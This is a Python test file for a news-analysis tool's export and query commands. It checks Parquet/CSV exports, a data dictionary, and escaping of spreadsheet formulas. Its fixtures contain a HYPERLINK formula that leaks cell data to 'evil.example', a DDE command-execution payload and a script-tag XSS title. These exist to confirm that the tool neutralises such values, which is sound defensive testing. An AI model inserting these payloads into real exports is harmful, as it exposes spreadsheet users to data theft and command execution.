"""`pantau export` and `pantau query` on a seeded store: files per table, stable columns, a data dictionary."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pyarrow.parquet as pq
import pytest
from test_queries import XSS_TITLE, seed_articles

from pantau.cli.main import run
from pantau.core.config import reload_settings
from pantau.read.export import TABLES, csv_cell, data_dictionary, export_dataset
from pantau.store.articles import upsert_article


@pytest.fixture
def seeded_cli(sqlite_store, monkeypatch):
    """The CLI pointed at a seeded SQLite store."""
    seed_articles(sqlite_store)
    monkeypatch.setenv("DATABASE_URL", sqlite_store.url)
    reload_settings()
    return sqlite_store


def test_parquet_export_has_every_table_and_column(sqlite_store, tmp_path) -> None:
    seed_articles(sqlite_store)
    counts = export_dataset(sqlite_store, tmp_path / "out", "parquet")
    assert counts["articles"] == 6 and counts["statistics"] == 7 and counts["stories"] == 1
    for table in TABLES:
        data = pq.read_table(tmp_path / "out" / f"{table.name}.parquet")
        assert data.column_names == list(table.columns), table.name
        assert data.num_rows == counts[table.name]
    statistics = pq.read_table(tmp_path / "out" / "statistics.parquet").to_pylist()
    assert {row["value"] for row in statistics} >= {16.0, 2.5e12}
    articles = pq.read_table(tmp_path / "out" / "articles.parquet").to_pylist()
    assert XSS_TITLE in {row["title"] for row in articles}
    assert all(row["published_at"].tzinfo is not None for row in articles)
    assert json.loads(articles[0]["authors"]) == []
    dictionary = (tmp_path / "out" / "DATA_DICTIONARY.md").read_text(encoding="utf-8")
    for table in TABLES:
        assert f"## {table.name}.parquet ({counts[table.name]} rows)" in dictionary
        for column in table.columns:
            assert f"| `{column}` |" in dictionary


def test_csv_export_of_an_empty_store_still_has_headers(sqlite_store, tmp_path) -> None:
    counts = export_dataset(sqlite_store, tmp_path, "csv")
    assert set(counts.values()) == {0}
    with (tmp_path / "quotes.csv").open(encoding="utf-8") as handle:
        assert next(csv.reader(handle)) == ["id", "article_id", "position", "speaker", "text"]
    assert "JSON text" in data_dictionary("csv")


def test_cli_export(seeded_cli, tmp_path, capsys) -> None:
    assert run(["export", "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    with (tmp_path / "csv" / "statistics.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 7 and {"value", "unit", "subject", "sentence", "source"} <= set(rows[0])
    assert run(["export", "--format", "xlsx", "--out", str(tmp_path)]) != 0


def test_cli_query_formats(seeded_cli, tmp_path, capsys) -> None:
    assert run(["query", "statistics", "--campaign", "laju-digital", "--unit", "percent", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [row["raw"] for row in rows] == ["7 persen", "16 persen"]
    assert {"value", "unit", "subject", "sentence", "source", "title", "outlet", "published_at", "url"} <= set(rows[0])
    assert run(["query", "articles", "--outlet", "detik", "--format", "jsonl"]) == 0
    assert len(capsys.readouterr().out.strip().splitlines()) == 2
    assert run(["query", "places", "--format", "csv"]) == 0
    assert capsys.readouterr().out.startswith("code,name,level")
    assert run(["query", "quotes", "--format", "parquet", "--out", str(tmp_path / "q.parquet")]) == 0
    assert pq.read_table(tmp_path / "q.parquet").num_rows == 3
    assert run(["query", "articles", "--limit", "2"]) == 0
    captured = capsys.readouterr()
    assert "articles (2)" in captured.out and "--page 2" in captured.err
    # Untrusted markup in a title is printed literally in the terminal table.
    assert run(["query", "articles", "--outlet", "tempo"]) == 0
    assert "<script>alert(1)</script>" in capsys.readouterr().out.replace("\n", "").replace("│", "").replace(" ", "")


@pytest.mark.parametrize("argv, message", [
    (["query", "statistics", "--campaign", "tidak-ada"], "unknown campaign"),
    (["query", "articles", "--from", "14-08-2018"], "not a date"),
    (["query", "articles", "--place", "99.99"], "unknown region code"),
    (["query", "articles", "--format", "parquet"], "--out"),
])
def test_cli_query_errors_are_one_line(seeded_cli, capsys, argv, message) -> None:
    assert run(argv) != 0
    err = capsys.readouterr().err.strip()
    assert message in err and len(err.splitlines()) == 1


# Cells a spreadsheet would run as formulas, as an article could carry them in its title or quotes.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
FORMULA_QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_SUBJECT = "+62 812 0000 (kontak)"


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+cmd", "'-1+cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("Laju Digital = literasi", "Laju Digital = literasi"), ("", ""), (None, None),
    (-2.5, -2.5), (16, 16), (["kompas", "=x"], "kompas;=x"), (["=x", "y"], "'=x;y"),
    (datetime(2018, 8, 14, 3, 0, tzinfo=UTC), "2018-08-14T03:00:00+00:00"),
])
def test_csv_cell_neutralises_formulas_and_keeps_values(value, expected) -> None:
    assert csv_cell(value) == expected


def _seed_formula_article(store) -> None:
    url = "https://www.kompas.example/read/formula"
    with store.session() as session:
        upsert_article(session, {
            "url_key": url, "url": url, "outlet_id": "kompas", "outlet_name": "Kompas.com", "title": FORMULA_TITLE,
            "text": "Laju Digital di Makassar.", "published_at": datetime(2018, 8, 15, 3, 0, tzinfo=UTC),
            "pipeline_version": "test", "is_article": True,
        }, {"quotes": [{"speaker": "-Budi", "text": FORMULA_QUOTE}],
            "statistics": [{"value": 5, "unit": "percent", "raw": "5 persen", "subject": FORMULA_SUBJECT,
                            "sentence": "=5 persen", "source": "@IdEA"}]},
            [{"campaign_id": "laju-digital", "score": 0.9, "matched": True, "reasons": ["test"]}])


def _no_formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell and cell.lstrip()[:1] in set("=+-@\t\r")]


def test_every_csv_output_neutralises_formulas(seeded_cli, tmp_path, capsys) -> None:
    _seed_formula_article(seeded_cli)
    # pantau export --format csv
    assert run(["export", "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    for name in ("articles", "quotes", "statistics"):
        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        assert _no_formula_cells(rows) == [], name
    with (tmp_path / "csv" / "articles.csv").open(encoding="utf-8", newline="") as handle:
        assert "'" + FORMULA_TITLE in {row["title"] for row in csv.DictReader(handle)}
    # pantau query ... --format csv
    for kind in ("articles", "quotes", "statistics"):
        assert run(["query", kind, "--format", "csv"]) == 0
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        assert len(rows) > 1 and _no_formula_cells(rows) == [], kind
    assert run(["query", "quotes", "--format", "csv"]) == 0
    assert "'" + FORMULA_QUOTE in capsys.readouterr().out
    # the API's CSV downloads
    from fastapi.testclient import TestClient

    from web.app import create_app

    with TestClient(create_app(seeded_cli, admin_token="")) as client:
        for kind in ("articles", "quotes", "statistics", "stories"):
            response = client.get(f"/api/{kind}.csv")
            assert response.status_code == 200
            rows = list(csv.reader(io.StringIO(response.text)))
            assert len(rows) > 1 and _no_formula_cells(rows) == [], kind
        assert "'" + FORMULA_SUBJECT in client.get("/api/statistics.csv").text
        # JSON is data, not a spreadsheet: it keeps the text as written.
        titles = {row["title"] for row in client.get("/api/articles", params={"page_size": 50}).json()["items"]}
        assert FORMULA_TITLE in titles
